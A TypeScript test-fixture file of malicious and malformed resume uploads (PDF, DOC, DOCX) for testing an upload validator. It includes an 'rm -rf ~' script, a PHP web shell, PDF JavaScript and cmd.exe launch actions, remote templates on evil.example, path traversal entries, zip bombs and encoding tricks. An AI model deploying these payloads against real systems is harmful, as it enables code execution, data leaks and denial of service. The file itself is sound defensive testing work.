import { randomBytes } from 'node:crypto'
import { deflateRawSync, deflateSync } from 'node:zlib'
import {
  contentTypes,
  docFile,
  docxFile,
  documentPart,
  link,
  links,
  MAIN_TYPE,
  objectStream,
  OFFICE,
  pdfFile,
  pdfOfSize,
  rawLinks,
  rootLinks,
  WORD_PARTS,
  wordStream,
} from './documents.ts'
import type { Sample } from './good-resumes.ts'
import { zipFile, type ZipPart } from './zip-file.ts'

const MEGABYTE = 1024 * 1024
const latin1 = (text: string) => Buffer.from(text, 'latin1')
const PROGRAM = latin1(`MZ\x90\x00${'\0'.repeat(60)}PE\0\0${'x'.repeat(500)}`)
const archive = zipFile([{ name: 'run.class', content: 'evil' }])
const sheetTypes = contentTypes(
  'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
)
const excel = { name: 'Workbook', content: Buffer.alloc(5_000, 1) }
const evil = (name: string): ZipPart => ({ name, content: 'evil' })
const types = (more: string) =>
  zipFile([contentTypes(MAIN_TYPE, more), rootLinks, documentPart, evil('word/plain.xml')])
const withLink = (...lines: string[]) => docxFile(links('word/_rels/settings.xml.rels', ...lines))

const OTHER_TYPES: Sample[] = [
  ['nothing', 'cv.pdf', () => Buffer.alloc(0)],
  ['one byte', 'cv.pdf', () => Buffer.from('%')],
  ['a text', 'cv.txt', () => Buffer.from('Experience: Java, SQL')],
  ['a page', 'cv.html', () => Buffer.from('<!doctype html><script>alert(1)</script>')],
  ['a page that is called a PDF', 'cv.pdf', () => Buffer.from('<html><script>1</script></html>')],
  ['a program that is called a PDF', 'cv.pdf', () => PROGRAM],
  ['a program for Linux that is called a DOCX', 'cv.docx', () => latin1('\x7fELF\x02\x01\x01')],
  ['a shell script', 'cv.doc', () => Buffer.from('#!/bin/sh\nrm -rf ~\n')],
  ['a photo', 'cv.pdf', () => latin1(`\xff\xd8\xff\xe0${'x'.repeat(500)}`)],
  ['a picture before a PDF', 'cv.pdf', () => Buffer.concat([latin1('GIF89a'), pdfFile()])],
  ['a text in RTF', 'cv.doc', () => Buffer.from('{\\rtf1\\ansi Experience}')],
  ['a ZIP archive', 'cv.docx', () => archive],
  ['a program for Java', 'cv.docx', () => zipFile([evil('META-INF/MANIFEST.MF')])],
  ['a spreadsheet', 'cv.docx', () => zipFile([sheetTypes, rootLinks, evil('xl/workbook.xml')])],
  [
    'a spreadsheet with a folder like that of Word',
    'cv.docx',
    () => zipFile([sheetTypes, rootLinks, documentPart]),
  ],
  [
    'an OpenDocument',
    'cv.docx',
    () => zipFile([{ ...evil('mimetype'), method: 0 }, evil('content.xml')]),
  ],
  ['an old spreadsheet', 'cv.doc', () => docFile({ streams: [excel] })],
  [
    'an old spreadsheet with a Word document in it',
    'cv.doc',
    () =>
      docFile({
        streams: [
          excel,
          {
            name: 'MBD0001',
            children: [
              { name: 'WordDocument', content: wordStream({}) },
              { name: '1Table', content: Buffer.alloc(4096) },
            ],
          },
        ],
      }),
  ],
]

const PDFS: Sample[] = [
  ['the first line of a PDF', 'cv.pdf', () => Buffer.from('%PDF-1.7\n')],
  [
    'a PDF that is a script',
    'cv.pdf',
    () => Buffer.from('%PDF-1.7\n<script>alert(1)</script>\n%%EOF'),
  ],
  [
    'a PDF without anything in it',
    'cv.pdf',
    () => Buffer.from('%PDF-1.7\nsome text\nstartxref\n9\n%%EOF\n'),
  ],
  ['half a PDF', 'cv.pdf', () => pdfFile().subarray(0, 300)],
  ['a PDF without its last line', 'cv.pdf', () => pdfFile().subarray(0, -8)],
  ['a PDF after a blank line', 'cv.pdf', () => Buffer.concat([Buffer.from('\n'), pdfFile()])],
  ['a PDF that is a page', 'cv.pdf', () => pdfFile({ head: '%<html><body onload=alert(1)>\n' })],
  ['a PDF that is PHP', 'cv.pdf', () => pdfFile({ head: '%<?php system($_GET[1]) ?>\n' })],
  ['a PDF that begins an archive', 'cv.pdf', () => pdfFile({ head: '%PK\x03\x04\n' })],
  ['a PDF with an archive behind it', 'cv.pdf', () => Buffer.concat([pdfFile(), archive])],
  [
    'a PDF and archive that end as a PDF does',
    'cv.pdf',
    () =>
      Buffer.concat([
        pdfFile(),
        zipFile([evil('run.class')], { comment: '\nstartxref\n9\n%%EOF\n' }),
      ]),
  ],
  ['a PDF with a program behind it', 'cv.pdf', () => Buffer.concat([pdfFile(), PROGRAM])],
  [
    'a PDF that is a tape archive',
    'cv.pdf',
    () => {
      const file = pdfFile({ body: Buffer.alloc(1_000, 0x20) })
      file.write('ustar', 257)
      return file
    },
  ],
  [
    'a PDF that is the image of a disk',
    'cv.pdf',
    () => {
      const file = pdfFile({ body: Buffer.alloc(40_000, 0x20) })
      file.write('CD001', 32_769)
      return file
    },
  ],
  [
    'a PDF with a script',
    'cv.pdf',
    () => pdfFile({ objects: ['<< /S /JavaScript /JS (app.alert(1)) >>'] }),
  ],
  [
    'a PDF with a hidden script',
    'cv.pdf',
    () => pdfFile({ objects: ['<< /S /J#61va#53cript /JS 9 0 R >>'] }),
  ],
  [
    'a PDF that starts a program',
    'cv.pdf',
    () => pdfFile({ objects: ['<< /S /Launch /F (cmd.exe) >>'] }),
  ],
  [
    'a PDF with a file in it',
    'cv.pdf',
    () => pdfFile({ catalog: '/Names << /EmbeddedFiles 9 0 R >>' }),
  ],
  ['a PDF with a player', 'cv.pdf', () => pdfFile({ objects: ['<< /Subtype /RichMedia >>'] })],
  ['a PDF with a form in XML', 'cv.pdf', () => pdfFile({ catalog: '/AcroForm << /XFA 9 0 R >>' })],
  ['an encrypted PDF', 'cv.pdf', () => pdfFile({ trailer: '/Encrypt 9 0 R' })],
  [
    'a PDF that says at once how it is encrypted',
    'cv.pdf',
    () => pdfFile({ trailer: '/Encrypt<</V 4>>' }),
  ],
  [
    'a PDF of digits, which slow patterns choke on',
    'cv.pdf',
    () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(4 * MEGABYTE, '1')]),
  ],
  ['a PDF of one byte too many', 'cv.pdf', () => pdfOfSize(5 * MEGABYTE + 1)],
]

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const packed = (options: Partial<Parameters<typeof objectStream>[0]> = {}) =>
  pdfFile({
    catalog: '/OpenAction 50 0 R',
    objects: [objectStream({ objects: [SCRIPT], ...options })],
  })

/** Each has a control in `good-resumes.ts` that differs only by the attack. */
const OBJECT_STREAMS: Sample[] = [
  ['a PDF with a script in an object stream', 'cv.pdf', () => packed()],
  [
    'a PDF with an escaped script name in an object stream',
    'cv.pdf',
    () => packed({ objects: ['<< /S /J#61vaScr#69pt /#4AS (1) >>'] }),
  ],
  [
    'a PDF that hides a script behind the comment in an object stream',
    'cv.pdf',
    () => packed({ objects: [`% (\n${SCRIPT} % )`] }),
  ],
  [
    'a PDF that hides a script behind a string that only a linear reader sees',
    'cv.pdf',
    () => packed({ gap: '( ', objects: [SCRIPT, '<< /A (b) >>'] }),
  ],
  [
    'a PDF with an object stream that does not say that it is one',
    'cv.pdf',
    () =>
      packed({
        dictionary: (first, length) =>
          `/N 1 /F#69rst ${first} /Filter [/FlateDecode] /Length ${length}`,
      }),
  ],
  [
    'a PDF with an object stream compressed twice',
    'cv.pdf',
    () =>
      packed({
        pack: (content) => deflateSync(deflateSync(content)),
        dictionary: (first) =>
          `/Type /ObjStm /N 1 /First ${first} /Filter [/FlateDecode /FlateDecode]`,
      }),
  ],
  [
    'a PDF with an object stream in another encoding',
    'cv.pdf',
    () =>
      packed({
        pack: (content) => Buffer.from(`${content.toString('hex')}>`),
        dictionary: (first) => `/Type /ObjStm /N 1 /First ${first} /Filter /ASCIIHexDecode`,
      }),
  ],
  [
    'a PDF that names the filter of an object stream elsewhere',
    'cv.pdf',
    () => packed({ dictionary: (first) => `/Type /ObjStm /N 1 /First ${first} /Filter 9 0 R` }),
  ],
  [
    'a PDF with an object stream that cannot be inflated',
    'cv.pdf',
    () => packed({ pack: deflateRawSync }),
  ],
  [
    'a PDF whose object stream inflates to 100 megabytes',
    'cv.pdf',
    () => packed({ objects: [`<< /A (${'a'.repeat(100 * MEGABYTE)}) >>`] }),
  ],
  [
    'a PDF with more object streams than any resume has',
    'cv.pdf',
    () =>
      pdfFile({
        objects: Array.from({ length: 2_500 }, () => objectStream({ objects: ['<< /A 1 >>'] })),
      }),
  ],
  [
    'a PDF of dictionaries in dictionaries',
    'cv.pdf',
    () => pdfFile({ objects: ['obj<<'.repeat(200_000)] }),
  ],
  [
    'a PDF encrypted under an escaped name',
    'cv.pdf',
    () => pdfFile({ trailer: '/Encr#79pt 9 0 R' }),
  ],
  [
    'a PDF with a script of a rendition',
    'cv.pdf',
    () => pdfFile({ objects: ['<< /S /Rendition /#4aS (app.alert\\(1\\)) >>'] }),
  ],
]

const macros = (name: string) =>
  docFile({ more: [{ name, children: [{ name: 'dir', content: Buffer.alloc(100) }] }] })
const DOCS: Sample[] = [
  ['the beginning of a DOC', 'cv.doc', () => docFile().subarray(0, 600)],
  ['half a DOC', 'cv.doc', () => docFile().subarray(0, 6_000)],
  [
    'a DOC that says that its text is longer than it is',
    'cv.doc',
    () => {
      const file = docFile()
      file.writeUInt32LE(1_000_000, file.indexOf(Buffer.from('WordDocument', 'utf16le')) + 120)
      return file
    },
  ],
  ['a DOC with macros', 'cv.doc', () => macros('Macros')],
  ['a DOC with macros in another place', 'cv.doc', () => macros('_VBA_PROJECT_CUR')],
  [
    'a DOC with macros further down',
    'cv.doc',
    () =>
      docFile({
        more: [{ name: 'Other', children: [{ name: '_VBA_PROJECT', content: Buffer.alloc(9) }] }],
      }),
  ],
  [
    'a DOC with a program in it',
    'cv.doc',
    () =>
      docFile({
        more: [
          {
            name: 'ObjectPool',
            children: [{ name: '_1', children: [{ name: '\u0001Ole10Native', content: PROGRAM }] }],
          },
        ],
      }),
  ],
  [
    'a DOC with a control',
    'cv.doc',
    () => docFile({ more: [{ name: '\u0003OCXNAME', content: Buffer.alloc(20) }] }),
  ],
  ['an encrypted DOC', 'cv.doc', () => docFile({ flags: 0x0300 })],
  [
    'an encrypted DOCX, which is stored as a DOC is',
    'cv.docx',
    () =>
      docFile({
        streams: [
          { name: 'EncryptedPackage', content: randomBytes(5_000) },
          { name: 'EncryptionInfo', content: Buffer.alloc(200) },
        ],
      }),
  ],
  ['a DOC whose text is something else', 'cv.doc', () => docFile({ magic: 0x1234 })],
  [
    'a DOC without its table',
    'cv.doc',
    () => docFile({ streams: [{ name: 'WordDocument', content: wordStream({}) }] }),
  ],
  ['a DOC with an archive behind it', 'cv.doc', () => Buffer.concat([docFile(), archive])],
  [
    'a DOC that goes round in a circle',
    'cv.doc',
    () => {
      const file = docFile()
      const table = (file.readUInt32LE(76) + 1) * 512
      const directory = file.readUInt32LE(48)
      file.writeUInt32LE(directory, table + directory * 4)
      return file
    },
  ],
  [
    'a DOC that points out of itself',
    'cv.doc',
    () => {
      const file = docFile()
      file.writeUInt32LE(0x00ff_ffff, 48)
      return file
    },
  ],
  [
    'a DOC with sectors of a size that there is not',
    'cv.doc',
    () => {
      const file = docFile()
      file.writeUInt16LE(31, 30)
      return file
    },
  ],
]

const PACKAGE = 'http://schemas.openxmlformats.org/package/2006/relationships'
const SPACED = `<?xml version="1.0"?><Relationships xmlns="${PACKAGE}"><Relationship Id="r1" Type = "${OFFICE}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode = "External"/></Relationships>`

const DOCXS: Sample[] = [
  ['a DOCX with macros', 'cv.docx', () => docxFile(evil('word/vbaProject.bin'))],
  [
    'a DOCX with macros under another name',
    'cv.docx',
    () =>
      types(
        '<Override PartName="/word/plain.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
      ),
  ],
  [
    'a DOCX of the type with macros',
    'cv.docx',
    () =>
      zipFile([
        contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml'),
        rootLinks,
        documentPart,
      ]),
  ],
  ['a DOCX with a control', 'cv.docx', () => docxFile(evil('word/activeX/activeX1.xml'))],
  ['a DOCX with an object', 'cv.docx', () => docxFile(evil('word/embeddings/oleObject1.bin'))],
  [
    'a DOCX with a program',
    'cv.docx',
    () => docxFile({ name: 'word/media/run.exe', content: PROGRAM }),
  ],
  ['a DOCX with a page', 'cv.docx', () => docxFile(evil('word/afchunk.html'))],
  [
    'a DOCX with a document that has macros',
    'cv.docx',
    () => docxFile(evil('word/embeddings/a.docm')),
  ],
  [
    'a DOCX with a template from elsewhere',
    'cv.docx',
    () => withLink(link('attachedTemplate', 'https://evil.example/t.dotm', 'External')),
  ],
  [
    'a DOCX with a template from another machine',
    'cv.docx',
    () => withLink(link('attachedTemplate', '\\\\evil.example\\t.dotm', 'External')),
  ],
  [
    'a DOCX with an object from elsewhere',
    'cv.docx',
    () => withLink(link('oleObject', 'mhtml:http://evil.example/x!x', 'External')),
  ],
  [
    'a DOCX that hides the type of a link',
    'cv.docx',
    () => withLink(link('attached&#84;emplate', 'http://evil.example/t', 'External')),
  ],
  [
    'a DOCX with a remote template that names a local one in its query',
    'cv.docx',
    () =>
      withLink(link('attachedTemplate', "https://evil.example/t.dotm?Target='a.dotm'", 'External')),
  ],
  [
    "a DOCX with a remote template and a '>' in its address",
    'cv.docx',
    () => withLink(link('attachedTemplate', 'https://evil.example/t.dotm?a>b', 'External')),
  ],
  [
    'a DOCX with a remote template under a namespace prefix',
    'cv.docx',
    () =>
      docxFile(
        rawLinks(
          `<?xml version="1.0"?><p:Relationships xmlns:p="${PACKAGE}"><p:Relationship Id="r1" Type="${OFFICE}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></p:Relationships>`,
        ),
      ),
  ],
  ['a DOCX with spaces before the equals signs', 'cv.docx', () => docxFile(rawLinks(SPACED))],
  [
    'a DOCX with an object from elsewhere and spaces in its link',
    'cv.docx',
    () => docxFile(rawLinks(SPACED.replace('attachedTemplate', 'oleObject'))),
  ],
  [
    'a DOCX with a picture from elsewhere',
    'cv.docx',
    () => withLink(link('image', 'https://evil.example/pixel.png', 'External')),
  ],
  [
    'a DOCX with a target mode in escapes',
    'cv.docx',
    () => withLink(link('image', 'https://evil.example/pixel.png', 'Ex&#x74;ernal')),
  ],
  [
    'a DOCX with a link type that only resembles a hyperlink',
    'cv.docx',
    () => withLink(link('attachedTemplate/hyperlink', 'https://evil.example/t', 'External')),
  ],
  [
    'a DOCX with a template path that leads to another machine',
    'cv.docx',
    () => withLink(link('attachedTemplate', 'file://evil.example/c:/t.dotm', 'External')),
  ],
  [
    'a DOCX whose links have a document type',
    'cv.docx',
    () =>
      docxFile(
        rawLinks(
          `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e "External">]>${link('image', 'https://evil.example/p', '&e;')}`,
        ),
      ),
  ],
  [
    'a DOCX whose links are in UTF-7',
    'cv.docx',
    () => docxFile(rawLinks('<?xml version="1.0" encoding="UTF-7"?><Relationships/>')),
  ],
  [
    'a DOCX with a remote template in UTF-16',
    'cv.docx',
    () =>
      docxFile(
        rawLinks(
          Buffer.from(
            `\uFEFF<?xml version="1.0" encoding="UTF-16"?><Relationships>${link('image', 'https://evil.example/p', 'External')}</Relationships>`,
            'utf16le',
          ),
        ),
      ),
  ],
  [
    'a DOCX whose links are no XML',
    'cv.docx',
    () => docxFile(rawLinks('<Relationships><Relationship></Relationships>')),
  ],
  ['a DOCX with another format within it', 'cv.docx', () => withLink(link('aFChunk', 'part.xml'))],
  ['a DOCX that leaves its folder', 'cv.docx', () => docxFile(evil('../../evil.xml'))],
  ['a DOCX with an absolute path', 'cv.docx', () => docxFile(evil('/etc/evil.xml'))],
  ['a DOCX with a path of Windows', 'cv.docx', () => docxFile(evil('word\\..\\..\\evil.xml'))],
  ['a DOCX with a drive', 'cv.docx', () => docxFile(evil('C:/evil.xml'))],
  ['a DOCX with a zero in a name', 'cv.docx', () => docxFile(evil('word/a.xml\0.exe'))],
  ['a DOCX with two texts', 'cv.docx', () => docxFile(documentPart)],
  [
    'a DOCX with two texts in another spelling',
    'cv.docx',
    () => docxFile({ ...documentPart, name: 'word/Document.xml' }),
  ],
  [
    'a DOCX with two names for a part',
    'cv.docx',
    () => docxFile({ ...evil('word/a.xml'), localName: 'word/b.xml' }),
  ],
  [
    'a DOCX that says that it becomes a gigabyte',
    'cv.docx',
    () =>
      docxFile({ name: 'word/a.xml', content: Buffer.alloc(1_000), declaredBytes: 1_000_000_000 }),
  ],
  [
    'a DOCX that becomes 200 megabytes',
    'cv.docx',
    () => docxFile({ name: 'word/a.xml', content: Buffer.alloc(200 * MEGABYTE) }),
  ],
  [
    'a DOCX that becomes 40 megabytes and says that it does not',
    'cv.docx',
    () =>
      docxFile({ name: 'word/a.xml', content: Buffer.alloc(40 * MEGABYTE), declaredBytes: 1_000 }),
  ],
  [
    'a DOCX whose parts are all the same bytes',
    'cv.docx',
    () =>
      zipFile([...WORD_PARTS, ...Array.from({ length: 50 }, (_, at) => evil(`word/${at}.xml`))], {
        isOverlapping: true,
      }),
  ],
  [
    'a DOCX of 5,000 parts',
    'cv.docx',
    () => docxFile(...Array.from({ length: 5_000 }, (_, at) => evil(`word/${at}.xml`))),
  ],
  ['an encrypted DOCX', 'cv.docx', () => docxFile({ ...evil('word/a.xml'), flags: 1 })],
  ['a strongly encrypted DOCX', 'cv.docx', () => docxFile({ ...evil('word/a.xml'), flags: 0x41 })],
  [
    'a DOCX that is packed in an unusual way',
    'cv.docx',
    () => docxFile({ ...evil('word/a.xml'), method: 14 }),
  ],
  ['a DOCX with numbers of a larger kind', 'cv.docx', () => zipFile(WORD_PARTS, { count: 0xffff })],
  [
    'a DOCX that says that it has fewer parts',
    'cv.docx',
    () => zipFile([...WORD_PARTS, evil('word/a.xml')], { count: 3 }),
  ],
  [
    'a DOCX with a part that is not packed and of another size',
    'cv.docx',
    () => docxFile({ ...evil('word/a.xml'), method: 0, declaredBytes: 3 }),
  ],
  [
    'a DOCX with a part that is smaller than it says',
    'cv.docx',
    () => docxFile({ ...evil('word/a.xml'), declaredBytes: 5_000 }),
  ],
  ['half a DOCX', 'cv.docx', () => docxFile().subarray(0, 700)],
  ['a DOCX without its last byte', 'cv.docx', () => docxFile().subarray(0, -1)],
  [
    'a DOCX with something behind it',
    'cv.docx',
    () => zipFile(WORD_PARTS, { after: Buffer.from('<html>') }),
  ],
  ['a DOCX with something in the middle', 'cv.docx', () => zipFile(WORD_PARTS, { gap: PROGRAM })],
  [
    'a DOCX without a text',
    'cv.docx',
    () => zipFile([contentTypes(), rootLinks, evil('word/other.xml')]),
  ],
  ['a DOCX without its types', 'cv.docx', () => zipFile([rootLinks, documentPart])],
  [
    'a DOCX with an endless list of types',
    'cv.docx',
    () => types(`<Default/>${' '.repeat(2 * MEGABYTE)}`),
  ],
  [
    'a DOCX whose text cannot be unpacked',
    'cv.docx',
    () => {
      const file = docxFile()
      const at = file.indexOf('word/document.xml') + 'word/document.xml'.length
      file.fill(0xff, at, at + 20)
      return file
    },
  ],
]

export const BAD_RESUMES: Sample[] = [...OTHER_TYPES, ...PDFS, ...OBJECT_STREAMS, ...DOCS, ...DOCXS]
